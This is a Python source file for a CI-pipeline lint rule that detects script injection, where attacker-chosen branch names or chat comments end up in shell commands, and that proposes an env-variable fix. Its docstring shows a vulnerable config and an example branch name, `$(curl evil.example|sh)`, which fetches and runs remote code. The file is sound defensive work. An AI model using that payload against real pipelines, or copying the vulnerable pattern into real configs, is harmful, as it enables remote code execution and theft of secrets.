r"""A name that others choose is put into a shell's text.

Variables are replaced before the shell reads its text. A branch may be called `$(curl evil.example|sh)`, and a comment
may say anything: put into `sh -c` or `script`, it runs, with the secrets of the task at hand. The same goes for what holds
such a name: the `url` of an image that is tagged with the branch, the output of a step that prints it. In an environment
variable it stays a string. The fix adds one and lets the shell read it. Where only tags, times, or branches that the
patterns name in full run the task, there is no finding.

```cue bad
resource: src: {type: "git", param: {url: "$(context.git.url)", revision: "$(context.git.commit)"}}

task: announce: {
  inputs: ["src"]
  steps: [{name: "announce", image: "alpine:3.20", command: ["sh", "-c", "echo building $(context.git.branch)"]}]
}

actions: [{tasks: ["announce"], on: git: pull_request: {}}]
```

```cue good
resource: src: {type: "git", param: {url: "$(context.git.url)", revision: "$(context.git.commit)"}}

task: announce: {
  inputs: ["src"]
  steps: [{
    name: "announce", image: "alpine:3.20"
    env: [{name: "GIT_BRANCH", value: "$(context.git.branch)"}]
    command: ["sh", "-c", "echo building \"${GIT_BRANCH}\""]
  }]
}

actions: [{tasks: ["announce"], on: git: pull_request: {}}]
```
"""

from __future__ import annotations

from dispatchfile.diagnostics import Edit, Fix, Severity
from dispatchfile.lint.rule import Rule
from dispatchfile.source import Span

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping

    from dispatchfile.diagnostics import Diagnostic
    from dispatchfile.lint.rule import Subject
    from dispatchfile.model.pipeline import Step
    from dispatchfile.value import Value

RULE = Rule(
    "DF604",
    "script-injection",
    Severity.WARNING,
    fix="unsafe",
    needs="context.git.branch context.build.name context.chatop.",
)

_MOST_FIXES = 50  # of one text, each of which is read up to there

_BRANCH = frozenset(("pull_request", "any branch", "unknown"))
_COMMENT = frozenset(("chatop", "unknown"))
_CHOSEN = {
    "context.git.branch": (_BRANCH, "whoever names the branch"),
    "context.build.name": (_BRANCH, "whoever names the branch"),
    "context.chatop.command": (_COMMENT, "whoever comments"),
    "context.chatop.args": (_COMMENT, "whoever comments"),
}


def check(subject: Subject) -> Iterator[Diagnostic]:
    """Yield a finding for each variable of others' choice in a text that a shell reads."""
    pipeline = subject.pipeline
    if pipeline is None:
        return
    from dispatchfile.lint import shell
    from dispatchfile.lint.chosen import chosen
    from dispatchfile.lint.usage import events

    holding = chosen(pipeline)
    seen = set()
    for task in pipeline.tasks.values():
        words = events(subject)[task.name] or ("unknown",)
        known = {
            name: origin
            for name, held in holding[task.name].items()
            if (origin := next((one for one in held if not _CHOSEN[one][0].isdisjoint(words)), None))
        }
        for index, step in enumerate(task.steps):
            for value, field in shell.texts(step):
                for name, start, place, certain in _uses(value, known):
                    if (place, start if not certain else 0) in seen:
                        continue
                    seen.add((place, start if not certain else 0))
                    yield RULE.finding(
                        f"$({name}) becomes part of what the shell runs, and {_who(name, known[name])}",
                        place,
                        "read by the shell",
                        help="put it into a variable of `env`, and write that in double quotes",
                        path=f"task.{task.name}.steps[{index}].{field}",
                        fix=_fix(step, value, name, start, place) if certain else None,
                    )


def _who(name: str, origin: str) -> str:
    """Return who chooses the value of a variable, which is one of the context or holds one."""
    who = _CHOSEN[origin][1]
    return f"{who} chooses it" if name == origin else f"holds $({origin}), which {who} chooses"


def _uses(value: Value, known: Mapping[str, str]) -> Iterator[tuple[str, int, Span | None, bool]]:
    """Yield each known variable in a text: its name, its offset, its place, and whether that is exact."""
    from dispatchfile.lint.places import home
    from dispatchfile.model.variables import find

    text = str(value.data)
    found = [variable for variable in find(text) if variable.name in known]
    for written in dict.fromkeys(text[variable.start : variable.end] for variable in found):
        same = [variable for variable in found if text[variable.start : variable.end] == written]
        name, offsets = same[0].name, [variable.start for variable in same]
        span = home(value, written)
        places = span.text.split(written)[:-1] if span is not None else []
        at = span.start if span is not None else 0
        for index, offset in enumerate(offsets):
            if span is None or len(places) != len(offsets):
                yield name, offset, span, False
                continue
            at += len(places[index])
            yield name, offset, Span(span.source, at, at + len(written)), index < _MOST_FIXES
            at += len(written)


def _fix(step: Step, value: Value, name: str, start: int, place: Span | None) -> Fix | None:
    """Return the fix that hands the variable over in the step's environment."""
    from dispatchfile.lint.shell import quoting

    home = step.value.span
    quotes = quoting(str(value.data), start)
    if place is None or home is None or quotes is None or not home.start <= place.start < home.end:
        return None
    variable = next((one.name for one in step.env if one.value == f"$({name})"), "")
    added: tuple[Edit, ...] = ()
    if not variable:
        words = "_".join(name.split(".")[-2:])
        variable = "".join(char if char.isascii() and char.isalnum() else "_" for char in words).upper()
        added = _declared(step, variable, name)
        if not added or any(one.name == variable for one in step.env):
            return None
    quote = _double_quote(value, place)
    if quote is None or (quotes == "'" and _opening(value, place) == "'"):
        return None
    read = {
        "": f"{quote}${{{variable}}}{quote}",
        '"': f"${{{variable}}}",
        "'": f"'{quote}${{{variable}}}{quote}'",
    }[quotes]
    return Fix(f"read it from the variable {variable}", (*added, Edit(place, read)), safe=False)


def _declared(step: Step, variable: str, name: str) -> tuple[Edit, ...]:
    """Return the edits that add the variable to the `env` of a step, () when its text does not allow it."""
    from dispatchfile.model.edits import is_json_like, listed

    json = is_json_like(step.value) and step.value.spans[0].text.startswith("{")
    label, content = ('"name"', '"value"') if json else ("name", "value")
    entry = f'{{{label}: "{variable}", {content}: "$({name})"}}'
    return listed(step.value, "env", entry)


def _opening(value: Value, place: Span) -> str:
    """Return how the string around a place begins."""
    span = next((one for one in value.spans if one.start <= place.start < one.end), None)
    return span.text[:3] if span is not None else ""


def _double_quote(value: Value, place: Span) -> str | None:
    """Return how a double quote is written in the string around a place; None when its kind is not known."""
    opening = _opening(value, place)
    if opening == '"""' or opening[:1] in ("|", ">", "'"):
        return '"'
    if opening[:1] == '"':
        return '\\"'
    return None
